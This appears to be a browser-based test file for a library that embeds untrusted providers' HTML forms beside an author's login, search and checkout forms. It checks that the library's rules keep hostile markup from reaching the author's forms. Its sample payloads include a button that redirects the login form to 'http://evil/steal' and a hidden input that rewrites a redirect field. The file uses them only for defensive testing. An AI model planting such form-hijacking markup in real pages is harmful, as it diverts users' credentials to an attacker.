import fc from 'fast-check';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { REACH_RULES } from '../../src/component/form-rules.js';
import { FORM_OWNED } from '../../src/component/form-schema.js';
import { compile, render } from '../../src/index.js';
import { openBrowser } from '../support/browser.js';
import { HAS_CHROMIUM } from '../support/programs.js';
import { hostileForm } from './hostile-form.js';
import { OBSERVE } from './observe.js';
import { bringing, pageWith, SPOTS, type Spot, site } from './page.js';

/** Generated forms; `npm run hunt:forms` takes 10,000. */
const FORMS = Number(process.env['INLAY_HUNT_FORMS'] ?? 500);
const BATCH = 100;
const SEED = 20_261_122;

/** An origin of its own, so that documents have cookies; nothing else is ever asked for. */
const ORIGIN = 'http://author.example/';

/** What an attacker found: each took over the author's form. */
const FOUND = [
  '<button form="login" formaction="http://evil/steal" formmethod="get">x</button>',
  '<input type="hidden" form="login" name="next" value="http://evil/">',
];

/** One for each rule: what it does to the page of test/forms/page.ts when nothing keeps it. */
const TELLING = [
  ...FOUND,
  '<form id="login" action="http://evil.invalid/"></form><form id="search"><input></form>',
  '<form id="checkout"><input name="card"></form>',
  '<label for="terms">x</label><label for="p1">y</label>',
  '<input type="radio" name="loose" checked>',
  '<form method="dialog"><button>x</button></form>',
  '<form target="payment"></form><a target="payment" href="/x">x</a>',
  '<form id="own-form"><button formmethod="dialog">x</button></form>',
  '<details name="faq" open><summary>x</summary>y</details>',
];

describe.skipIf(!HAS_CHROMIUM)('a form of a provider that is not trusted, beside three forms of the author', () => {
  let browser: Browser;
  let page: Page;
  const quiet = new Map<Spot, string[]>();
  const canvases = new Map(SPOTS.map((spot) => [spot, compile(pageWith(spot))]));

  beforeAll(async () => {
    browser = await openBrowser();
    page = await browser.newPage();
    await page.context().setOffline(true);
    await page.route(ORIGIN, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><body>' }));
    await page.goto(ORIGIN);
    for (const spot of SPOTS) {
      const [seen = []] = await observe([{ html: '<p>x</p>', spot }]);
      quiet.set(spot, seen);
    }
  });
  afterAll(() => browser.close());

  /** What the browser shows for each, in order. */
  async function observe(cases: readonly { html: string; spot: Spot }[]): Promise<string[][]> {
    const pages = cases.map(({ html, spot }) => render(canvases.get(spot) ?? '', site, bringing(html)).html);
    const seen: unknown = await page.evaluate(`${JSON.stringify(pages)}.map(${OBSERVE})`);
    return seen as string[][]; // as the expression gives it
  }

  /** The forms that change something of the author's, and the lines that differ. */
  async function reaching(forms: readonly string[]): Promise<{ html: string; spot: Spot; lines: string[] }[]> {
    const found: { html: string; spot: Spot; lines: string[] }[] = [];
    const cases = forms.flatMap((html, index) =>
      forms.length <= BATCH
        ? SPOTS.map((spot) => ({ html, spot }))
        : [{ html, spot: SPOTS[index % SPOTS.length] ?? 'after' }],
    );
    for (let from = 0; from < cases.length; from += BATCH) {
      const batch = cases.slice(from, from + BATCH);
      for (const [index, seen] of (await observe(batch)).entries()) {
        const { html = '', spot = 'after' } = batch[index] ?? {};
        const lines = seen.filter((line, number) => line !== quiet.get(spot)?.[number]);
        if (lines.length > 0) found.push({ html, spot, lines });
      }
    }
    return found;
  }

  test('sees the forms of the author', () => {
    expect(quiet.get('after')).toContain(
      'before login sends user=anna,password=secret,go=1 by go http://author.example/,,,,false',
    );
  });

  test.each(TELLING)('changes nothing with %s', async (html) => {
    expect(await reaching([html])).toEqual([]);
  });

  test(`changes nothing, of ${FORMS} generated ones`, { timeout: 1_800_000 }, async () => {
    expect((await reaching(fc.sample(hostileForm, { numRuns: FORMS, seed: SEED }))).slice(0, 5)).toEqual([]);
  });

  // The rules are only read; to take one away for a while, they must be written.
  const rules = REACH_RULES as Map<string, unknown>;
  const owned = FORM_OWNED as Set<string>;

  test.each([['id'], ['for'], ['form'], ['target'], ['method'], ['formmethod'], ['name']])(
    'is seen to change something when nothing is done about %s',
    async (...properties) => {
      const kept = properties.map((property) => [property, rules.get(property)] as const);
      for (const property of properties) rules.delete(property);
      try {
        expect((await reaching(TELLING)).length).toBeGreaterThan(0);
      } finally {
        for (const [property, rule] of kept) rules.set(property, rule);
      }
    },
  );

  test('is seen to change something, of 100 generated ones, when nothing is done at all', async () => {
    const kept = [...rules];
    rules.clear();
    try {
      const found = await reaching(fc.sample(hostileForm, { numRuns: BATCH + 1, seed: SEED }));
      expect(found.length).toBeGreaterThan(0);
    } finally {
      for (const [property, rule] of kept) rules.set(property, rule);
    }
  });

  test('is seen to change something when a control outside a form keeps its name', async () => {
    const kept = [...owned];
    owned.clear();
    try {
      expect((await reaching(TELLING)).length).toBeGreaterThan(0);
    } finally {
      for (const name of kept) owned.add(name);
    }
  });
});
